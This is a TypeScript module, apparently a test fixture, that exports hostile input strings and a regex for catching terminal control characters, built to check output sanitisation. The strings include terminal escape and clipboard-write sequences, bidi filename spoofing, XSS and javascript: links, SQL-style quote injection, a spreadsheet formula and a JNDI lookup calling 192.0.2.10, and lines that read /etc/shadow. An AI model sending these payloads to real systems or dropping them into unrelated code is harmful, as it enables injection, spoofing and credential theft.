// SPDX-License-Identifier: AGPL-3.0-or-later

/** What attackers write to act on who reads it, by what it is meant for. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  screen: 'cat /etc/shadow \u001b[2J\u001b[1;31mred\u001b[0m\u0008\u0007',
  title: '\u001b]0;owned\u0007',
  clipboard: '\u001b]52;c;bWFkZS11cA==\u0007',
  link: '\u001b]8;;http://192.0.2.10/\u001b\\click\u001b]8;;\u001b\\',
  lines: 'cat /etc/passwd\r\n{"level":"error","message":"forged"}\nX-Forged: 1',
  'C1 controls': '\u009b31m\u0090x\u009c\u0085',
  'other direction': 'a\u202e\u2066gpj.exe\u2069\u200f',
  separators: 'a\u2028b\u2029c',
  nul: 'a\u0000b\u007fc',
  html: '<script>alert(1)</script><img src=x onerror="x()">',
  quotes: `it's "quoted" \\ ' OR '1'='1] AND [x:y = 'z`,
  formula: '=HYPERLINK("http://192.0.2.10","x"),+1,@SUM(1)',
  markdown: '[x](javascript:alert(1)) ![](http://192.0.2.10/x.png) | `code`',
  label: '"} 1\n# HELP forged{a="b\\',
  surrogates: '\ud83d alone \udc00',
  format: '%s %n ${jndi:ldap://192.0.2.10/z} {{7*7}}',
};

/** All of them in one. */
export const HOSTILE_TEXT: string = Object.values(HOSTILE_TEXTS).join(' ');

/** What a terminal obeys or a reader is misled by, where it stands in an output as it is. Line feeds are for the caller to judge. */
export const TERMINAL_ORDERS = /(?!\n)\p{Cc}|[\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;
